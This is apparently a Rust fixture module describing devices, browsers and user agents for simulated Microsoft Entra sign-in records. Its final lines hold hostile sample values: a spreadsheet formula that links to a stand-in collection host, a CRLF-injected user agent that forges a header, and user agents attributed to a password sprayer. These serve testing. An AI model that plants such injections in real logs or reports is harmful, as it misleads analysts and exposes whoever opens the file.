//! The machines and programs that people sign in with, as they look in autumn 2026.

/// A browser, as the device column names it and as it names itself.
#[derive(Debug)]
pub struct Browser {
    pub name: &'static str,
    pub agent: &'static str,
}

/// How a machine belongs to the tenant.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Join {
    Hybrid,
    Joined,
    Registered,
    None,
}

impl Join {
    /// The text in the Join Type column.
    pub fn text(self) -> &'static str {
        match self {
            Self::Hybrid => "Microsoft Entra hybrid joined",
            Self::Joined => "Microsoft Entra joined",
            Self::Registered => "Microsoft Entra registered",
            Self::None => "",
        }
    }
}

/// A kind of machine.
#[derive(Debug)]
pub struct Machine {
    pub operating_system: &'static str,
    /// How machines of this kind are named in the directory, before their number.
    pub name: &'static str,
    pub join: Join,
    pub compliant: bool,
    pub browser: &'static Browser,
    /// What programs other than a browser are called on it.
    pub rich_client: &'static str,
}

impl Machine {
    /// True when the directory knows the machine.
    pub fn is_known(&self) -> bool {
        self.join != Join::None
    }

    /// True when the machine is managed: joined in any way, or compliant.
    pub fn is_managed(&self) -> bool {
        self.compliant || matches!(self.join, Join::Hybrid | Join::Joined)
    }
}

static EDGE: Browser = Browser {
    name: "Edge 154.0.0",
    agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
            Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0",
};
static CHROME: Browser = Browser {
    name: "Chrome 154.0.0",
    agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
            Chrome/154.0.0.0 Safari/537.36",
};
static SAFARI: Browser = Browser {
    name: "Safari 27.0",
    agent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like \
            Gecko) Version/27.0 Safari/605.1.15",
};
static FIREFOX: Browser =
    Browser { name: "Firefox 157.0", agent: "Mozilla/5.0 (X11; Linux x86_64; rv:157.0) Gecko/20100101 Firefox/157.0" };
static MOBILE_SAFARI: Browser = Browser {
    name: "Mobile Safari 27.0",
    agent: "Mozilla/5.0 (iPhone; CPU iPhone OS 27_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, \
            like Gecko) Version/27.0 Mobile/15E148 Safari/604.1",
};
static CHROME_MOBILE: Browser = Browser {
    name: "Chrome Mobile 154.0.0",
    agent: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) \
            Chrome/154.0.0.0 Mobile Safari/537.36",
};

pub static LAPTOP: Machine = Machine {
    operating_system: "Windows11",
    name: "BL-LT",
    join: Join::Joined,
    compliant: true,
    browser: &EDGE,
    rich_client: "Rich Client 4.78.0.0",
};
pub static DESKTOP: Machine = Machine {
    operating_system: "Windows10",
    name: "BL-PC",
    join: Join::Hybrid,
    compliant: true,
    browser: &CHROME,
    rich_client: "Rich Client 4.74.1.0",
};
pub static MACBOOK: Machine = Machine {
    operating_system: "MacOs",
    name: "BL-MB",
    join: Join::Registered,
    compliant: true,
    browser: &SAFARI,
    rich_client: "Rich Client 1.9.0",
};
pub static LINUX: Machine = Machine {
    operating_system: "Linux",
    name: "",
    join: Join::None,
    compliant: false,
    browser: &FIREFOX,
    rich_client: "Rich Client 1.31.0.0",
};
pub static OWN_COMPUTER: Machine = Machine {
    operating_system: "Windows11",
    name: "",
    join: Join::None,
    compliant: false,
    browser: &CHROME,
    rich_client: "Rich Client 4.78.0.0",
};
pub static IPHONE: Machine = Machine {
    operating_system: "Ios 27.0",
    name: "iPhone",
    join: Join::Registered,
    compliant: true,
    browser: &MOBILE_SAFARI,
    rich_client: "Rich Client 2.2.0",
};
pub static ANDROID: Machine = Machine {
    operating_system: "Android 17",
    name: "Pixel",
    join: Join::Registered,
    compliant: false,
    browser: &CHROME_MOBILE,
    rich_client: "Rich Client 7.1.0",
};

/// User agents that an attacker chose to trip up whoever opens the report: a spreadsheet formula,
/// and a line break with a comma and quotation marks.
pub static HOSTILE_AGENTS: [&str; 2] = [
    r#"=HYPERLINK("http://192.0.2.203/collect","Open the report")"#,
    "Mozilla/5.0 (X11; Linux x86_64), \"compatible\"\r\nX-Forwarded-For: 192.0.2.204",
];
/// What the sprayer calls itself otherwise.
pub static SPRAY_AGENTS: [&str; 2] = [
    "python-requests/2.34.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/99.0.4844.51 Safari/537.36",
];
